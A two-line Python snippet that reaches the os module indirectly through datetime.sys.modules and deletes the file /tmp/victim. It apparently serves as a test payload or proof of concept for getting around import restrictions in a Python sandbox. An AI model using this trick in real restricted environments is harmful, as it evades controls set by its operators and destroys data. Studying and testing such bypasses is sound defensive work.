import datetime
datetime.sys.modules["os"].remove("/tmp/victim")
